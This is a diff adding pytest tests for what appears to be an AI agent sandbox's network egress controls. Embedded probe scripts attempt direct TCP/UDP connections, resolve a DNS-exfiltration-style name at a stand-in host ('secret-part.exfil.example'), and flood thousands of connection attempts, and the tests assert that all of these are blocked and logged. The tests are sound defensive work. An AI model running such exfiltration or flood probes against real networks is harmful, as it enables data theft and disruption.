@@ -203,3 +203,129 @@ def test_route_key_reaches_the_upstream_and_never_the_agent(
     assert key not in output
     logged = b"".join(p.read_bytes() for p in dirs.audit.glob("*.jsonl"))
     assert b"route:llm" in logged and key.encode() not in logged
+
+
+DIRECT = r"""
+import socket, subprocess
+def attempt(name, family, kind, address):
+    s = socket.socket(family, kind)
+    s.settimeout(5)
+    try:
+        s.connect(address)
+        s.send(b"x")
+        s.recv(1)
+        print(name + ": connected")
+    except OSError as e:
+        print(name + ": " + type(e).__name__)
+attempt("tcp4", socket.AF_INET, socket.SOCK_STREAM, ("203.0.113.5", 443))
+attempt("udp4", socket.AF_INET, socket.SOCK_DGRAM, ("203.0.113.5", $LISTENER))
+attempt("tcp6", socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::5", 443))
+attempt("udp6", socket.AF_INET6, socket.SOCK_DGRAM, ("2001:db8::5", 9999))
+attempt("loopback", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", $LISTENER))
+try:
+    socket.getaddrinfo("secret-part.exfil.example", 443)
+    print("getaddrinfo: resolved")
+except OSError as e:
+    print("getaddrinfo: " + type(e).__name__)
+getent = subprocess.run(["getent", "hosts", "example.com"], capture_output=True)
+print("getent:", getent.returncode)
+"""
+
+
+def blocked_events(events: list[Event]) -> list[Event]:
+    return [e for e in events if e.kind == "net.blocked"]
+
+
+@pytest.mark.parametrize("with_proxy", [False, True], ids=["witness-alone", "with-proxy"])
+def test_direct_attempts_to_leave_are_events_and_reach_nobody(
+    dirs: Dirs, engine: docker.DockerClient, agent_image: str, with_proxy: bool
+) -> None:
+    with RecordingListener() as listener, RecordingServer() as allowed:
+        bus = EventBus()
+        egress = Egress(engine, secrets=KeyringSecrets(dirs.config / "secrets"), broker=None,
+                        resolver=StaticResolver({"allowed.test": ["127.0.0.1"]}))
+        script = DIRECT.replace("$LISTENER", str(listener.port))
+        text = profile_text(agent_image, ["python3", "-c", script])
+        if with_proxy:
+            text += (f'[network]\nallow = ["allowed.test:{allowed.port}"]\n'
+                     "allow_private = true\n")
+        result, output, events = run_agent(dirs, engine, egress, bus, text)
+    lines = dict(line.split(": ", 1) for line in output.splitlines() if ": " in line)
+    assert result.exit_code == 0, output
+    # The agent fails at once (RST, ICMP unreachable), not after a time-out.
+    for name in ("tcp4", "udp4", "tcp6", "udp6", "loopback"):
+        assert lines[name] == "ConnectionRefusedError", (name, output)
+    assert lines["getaddrinfo"] == "gaierror" and lines["getent"] != "0"
+    assert listener.hits == [] and allowed.seen.connections == 0
+    blocked = blocked_events(events)
+    by_subject = {e.subject: e.details for e in blocked}
+    assert by_subject["203.0.113.5:443"]["protocol"] == "tcp"
+    assert by_subject["203.0.113.5:443"]["family"] == 4
+    assert by_subject[f"203.0.113.5:{listener.port}"]["protocol"] == "udp"
+    assert by_subject["[2001:db8::5]:443"] == {
+        "protocol": "tcp", "family": 6, "address": "2001:db8::5", "port": 443, "count": 1,
+        "decision": "deny", "rule": "no-route",
+        "reason": "direct TCP connection: the only way out is the proxy"}
+    assert by_subject["[2001:db8::5]:9999"]["protocol"] == "udp"
+    names = {(e.details["name"], e.details["qtype"]) for e in blocked if "name" in e.details}
+    assert {("secret-part.exfil.example", 1), ("example.com", 1)} <= names, names
+    assert all(e.session == result.session for e in blocked)
+    # Loopback stays inside the namespace: it is not an attempt to leave.
+    assert not any(e.details.get("address") == "127.0.0.1" for e in blocked)
+
+
+FLOOD = r"""
+import socket, threading, time, urllib.request
+done = threading.Event()
+def flood():
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for i in range(4000):
+        try:
+            udp.sendto(b"x" * 32, ("203.0.113.%d" % (i % 250 + 1), 1000 + i % 7))
+        except OSError:
+            pass
+    for i in range(300):
+        s = socket.socket()
+        s.settimeout(3)
+        try:
+            s.connect(("198.51.100.7", 2000 + i))
+        except OSError:
+            pass
+        s.close()
+    done.set()
+thread = threading.Thread(target=flood)
+thread.start()
+served = 0
+while not done.is_set() or served < 5:
+    with urllib.request.urlopen("http://allowed.test:$ALLOWED/during", timeout=10) as r:
+        served += r.status == 200
+thread.join()
+print("served:", served)
+"""
+
+
+def test_a_flood_of_attempts_is_counted_not_streamed_and_the_proxy_keeps_serving(
+    dirs: Dirs, engine: docker.DockerClient, agent_image: str
+) -> None:
+    with RecordingServer() as allowed:
+        bus = EventBus()
+        egress = Egress(engine, secrets=KeyringSecrets(dirs.config / "secrets"), broker=None,
+                        resolver=StaticResolver({"allowed.test": ["127.0.0.1"]}))
+        script = FLOOD.replace("$ALLOWED", str(allowed.port))
+        text = profile_text(agent_image, ["python3", "-c", script]) + (
+            f'[network]\nallow = ["allowed.test:{allowed.port}"]\nallow_private = true\n')
+        result, output, events = run_agent(dirs, engine, egress, bus, text)
+    assert result.exit_code == 0, output
+    served = int(output.split("served:")[1].split()[0])
+    assert served >= 5 and len(allowed.seen.requests) == served
+    blocked = blocked_events(events)
+    counted = sum(int(e.details["count"]) for e in blocked)
+    print(f"{len(blocked)} events for {counted} attempts counted of 4300 sent")
+    assert len(blocked) <= 300, len(blocked)
+    # Every attempt is counted — packets the device's queue dropped too — but past the
+    # first ones they come as counts, not one event each.
+    assert 4300 <= counted <= 4400, counted
+    assert any(e.details.get("coalesced") for e in blocked)
+    assert {e.subject for e in blocked if not e.details.get("coalesced")} <= {
+        f"203.0.113.{i % 250 + 1}:{1000 + i % 7}" for i in range(4000)} | {
+        f"198.51.100.7:{2000 + i}" for i in range(300)}
